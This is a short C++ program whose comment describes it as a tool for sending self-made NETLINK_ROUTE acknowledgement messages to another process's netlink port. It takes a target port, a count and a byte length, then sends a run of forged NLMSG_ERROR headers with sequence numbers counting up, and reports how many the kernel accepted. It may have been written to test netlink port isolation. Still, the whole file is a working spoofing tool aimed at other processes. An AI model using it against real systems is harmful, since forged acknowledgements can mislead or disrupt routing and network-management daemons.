// Sends acknowledgements of its own making to another process's port of NETLINK_ROUTE: spoof PORT COUNT BYTES. Prints how many were taken.
#include <linux/netlink.h>
#include <sys/socket.h>

#include <array>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

int main(int, char **words) {
  const int socket = ::socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  sockaddr_nl target{};
  target.nl_family = AF_NETLINK;
  target.nl_pid = static_cast<std::uint32_t>(std::atoi(words[1]));
  const int count = std::atoi(words[2]);
  const auto length = static_cast<std::size_t>(std::atoi(words[3]));
  static std::array<char, 65536> bytes{};
  int taken = 0;
  for (int sequence = 1; sequence <= count; sequence += 1) {
    nlmsghdr header{};
    header.nlmsg_len = sizeof(nlmsghdr) + sizeof(nlmsgerr);
    header.nlmsg_type = NLMSG_ERROR;
    header.nlmsg_seq = static_cast<std::uint32_t>(sequence);
    std::memcpy(bytes.data(), &header, sizeof header);
    if (::sendto(socket, bytes.data(), length, MSG_DONTWAIT, reinterpret_cast<sockaddr *>(&target), sizeof target) >= 0) taken += 1;
  }
  std::printf("%d\n", taken);
  return 0;
}
